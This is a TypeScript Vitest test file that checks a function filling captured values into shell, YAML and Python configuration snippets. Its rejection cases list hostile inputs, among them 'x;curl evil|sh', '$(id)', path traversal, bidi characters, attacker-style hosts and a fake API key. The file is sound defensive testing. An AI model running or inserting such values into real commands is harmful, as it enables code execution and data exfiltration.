import { describe, expect, it } from 'vitest';
import type { CaptureType } from '../finding.ts';
import { fillHole } from './fill.ts';

const fill = (value: string, type: CaptureType, language: 'shell' | 'yaml' | 'python' = 'shell', quoted = false) =>
  fillHole({ it: { value, type } }, 'it', { quoted, language });

describe('fillHole', () => {
  it('fills values that mean nothing to any language', () => {
    expect(fill('openai/gpt-4o', 'model')).toEqual({ text: 'openai/gpt-4o', filled: true });
    expect(fill('host.docker.internal', 'host')).toEqual({ text: 'host.docker.internal', filled: true });
  });

  it('quotes a bare value where the language wants it, and leaves numbers bare', () => {
    expect(fill('yes', 'model', 'yaml').text).toBe('"yes"');
    expect(fill('4000', 'port', 'yaml').text).toBe('4000');
    expect(fill('gpt-4o', 'model', 'python').text).toBe('"gpt-4o"');
    expect(fill('gpt-4o', 'model', 'python', true).text).toBe('gpt-4o');
  });

  it.each([
    'x;curl evil|sh',
    'x`id`',
    '$(id)',
    "a' b",
    'a"b',
    'a\nb',
    'a b',
    '--upgrade',
    '-rf',
    'a\\b',
    'x#y',
    '{{x}}',
    '../../etc',
    'a\u202eb',
    'a\u200bb',
    '<b>',
    '~root',
    '*',
    'x&y',
    '%PATH%',
  ])('keeps the placeholder for %j', (value) => {
    for (const type of ['model', 'host', 'word', 'path', 'url'] as const)
      for (const language of ['shell', 'yaml', 'python'] as const)
        expect(fill(value, type, language), `${type} ${language}`).toEqual({ text: '<it>', filled: false });
  });

  it('lets no text send a configuration elsewhere: a public host or address stays a placeholder there, and may be probed', () => {
    for (const language of ['yaml', 'python'] as const) {
      for (const place of ['localhost', 'ollama', '10.0.3.7', 'vllm.models.svc', 'host.docker.internal'])
        expect(fill(place, 'host', language, true).filled, `${place} in ${language}`).toBe(true);
      for (const place of ['collector.example.com', '8.8.8.8', '10.0.0.1.evil.org', 'localhost.evil.org'])
        expect(fill(place, 'host', language, true).filled, `${place} in ${language}`).toBe(false);
      expect(fill('http://localhost:8000/v1', 'url', language, true).filled).toBe(true);
      expect(fill('https://collector.example.com/v1', 'url', language, true).filled).toBe(false);
    }
    expect(fill('collector.example.com', 'host', 'shell').filled).toBe(true);
  });

  it('shows and copies no secret that was captured', () => {
    const key = ['sk', 'proj', 'A1b2C3d4E5f6G7h8I9j0'].join('-');
    expect(fill(key, 'word').filled).toBe(false);
    expect(fillHole({ it: { value: key, type: 'word' } }, 'it', { quoted: false, language: null }).text).toBe('‹API key hidden›');
    expect(fill('a1'.repeat(32), 'hash').filled).toBe(true);
  });

  it('installs only what LiteLLM itself depends on', () => {
    const install = (value: string) => fillHole({ module: { value, type: 'word' } }, 'module', { quoted: true, language: 'shell' });
    expect(install('fastapi').text).toBe('fastapi');
    expect(install('python_multipart').filled).toBe(true);
    expect(install('litellm-helper').text).toBe('<module>');
    // Halves of names that the list once held apart; strangers own these on PyPI.
    for (const half of ['identity', 'kms']) expect(install(half).text).toBe('<module>');
    for (const whole of ['azure_identity', 'google-cloud-kms']) expect(install(whole)).toEqual({ text: whole, filled: true });
  });

  it('never fills free text or lists into code', () => {
    expect(fill('plain words', 'text').filled).toBe(false);
    expect(fill("['a']", 'list').filled).toBe(false);
  });

  it('refuses credentials in a URL', () => {
    expect(fill('http://user:pass@host/x', 'url').filled).toBe(false);
  });

  it('shows a clear placeholder for what was not captured', () => {
    expect(fillHole({}, 'model_group', { quoted: false, language: null })).toEqual({ text: '<model-group>', filled: false });
    expect(fillHole({}, 'constructor', { quoted: false, language: 'shell' })).toEqual({ text: '<constructor>', filled: false });
  });

  it('shows free text in prose without control and bidi characters', () => {
    expect(fillHole({ it: { value: 'a\u202e\u0000b', type: 'text' } }, 'it', { quoted: false, language: null }).text).toBe('a b');
  });
});
